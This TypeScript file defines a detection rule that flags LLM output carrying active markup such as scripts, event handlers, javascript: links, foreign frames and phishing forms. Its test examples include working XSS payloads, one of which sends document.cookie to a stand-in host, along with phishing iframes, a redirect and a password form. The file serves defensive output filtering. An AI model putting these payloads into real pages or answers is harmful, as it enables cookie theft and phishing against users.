import type { Severity, TypedInput } from '@ase/schemas'
import { answer } from '../../examples.ts'
import type { Rule } from '../../rule.ts'
import { readActiveContent } from '@ase/url-analysis'

export const activeContent: Rule = {
  code: 'ACTIVE_CONTENT',
  severity: 'high',
  types: ['output'],
  reason:
    'Carries markup that runs a program, loads a foreign page or sends a form when it is shown.',
  evidence:
    'Outside of code: a script, an event handler, a javascript: or data: address, a foreign frame, object or style sheet, a refresh to another host, or a form to another host that asks for a password; high when it reads cookies, storage or the page.',
  exceptions:
    'Code blocks and spans, frames of known players and maps, whole pages for a tool, addresses within the same site.',
  references: ['https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/'],
  mappings: { owasp: ['LLM05'], cwe: ['CWE-79', 'CWE-116'] },
  match: ({ envelope }) => {
    if (envelope.type !== 'output') return []
    const severity = classifyOutput(envelope.input)
    return severity === null ? [] : [{ path: 'input.content', severity }]
  },
  examples: {
    flags: [
      answer('Done.<script>fetch("https://t.example/?c="+document.cookie)</script>'),
      answer('<img src=x onerror="alert(1)">'),
      answer('<p id=a></p><script>document.getElementById("a").innerHTML = 1 + 2</script>'),
      answer('[open](javascript:alert(document.domain))'),
      answer('<iframe src="https://login.phish.example/"></iframe>'),
      answer('<meta http-equiv="refresh" content="0; url=https://phish.example/">'),
      answer('<svg onload=alert(1)></svg>'),
      answer('<form action="https://phish.example/in"><input type="password"></form>'),
    ],
    passes: [
      answer('Write `<script>` in the head.'),
      answer('```html\n<script src="https://cdn.example/a.js"></script>\n<p>hi</p>\n```'),
      answer('<iframe src="https://www.youtube.com/embed/abc"></iframe>'),
      answer('Set onclick = handler in the settings.'),
      answer('<details><summary>More</summary>text</details>'),
      answer('<img src="https://example.com/a.png" width=40>'),
    ],
  },
}

function classifyOutput({
  content,
  destination,
}: Extract<TypedInput, { type: 'output' }>['input']): Severity | null {
  const found = readActiveContent(content)
  if (found === null) return null
  if (found === 'steals') return 'high'
  // A tool may well be handed a page to write; what a person or a browser is shown is another matter.
  return destination.kind === 'tool' || destination.kind === 'log' ? 'low' : 'medium'
}
